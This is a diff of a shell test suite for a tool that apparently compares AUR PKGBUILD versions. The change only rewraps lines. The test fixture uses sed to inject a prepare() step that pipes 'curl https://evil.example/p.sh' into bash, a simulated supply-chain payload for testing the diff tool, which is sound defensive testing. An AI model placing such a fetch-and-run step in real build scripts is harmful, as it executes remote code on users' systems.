@@ -384,7 +384,8 @@ t_diff_of_two_fetched_commits_records_urls_and_digests() {
         aur_start
         mkpkg old
         mkpkg new
-        sed -i 's|^package() {|prepare() {\n  curl -fsSL https://evil.example/p.sh \| bash\n}\npackage() {|' "$TMP/new/PKGBUILD"
+        sed -i 's|^package() {|prepare() {\n  curl -fsSL https://evil.example/p.sh \| bash\n}\npackage() {|' \
+                "$TMP/new/PKGBUILD"
         aur_commit old "$C_OLD"
         aur_commit new "$C_NEW"
         run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
@@ -415,8 +416,9 @@ t_diff_of_two_fetched_commits_records_urls_and_digests() {
         run "$PRC" diff "$TMP/old" aur:demo --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
         expect_rc 0
         expect_eq "$(json_get new.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/demo.tar.gz"
-        python3 -c 'import json,sys; d=json.load(sys.stdin); sys.exit("commit" in d["new"]["aur"] or "aur" in d["old"])' \
-                <<<"$OUT" || fail "a current snapshot records a commit, or a directory records a URL"
+        python3 -c 'import json,sys; d=json.load(sys.stdin)
+sys.exit("commit" in d["new"]["aur"] or "aur" in d["old"])' <<<"$OUT" ||
+                fail "a current snapshot records a commit, or a directory records a URL"
 }
 
 t_diff_bad_aur_versions_are_refused_before_any_request() {
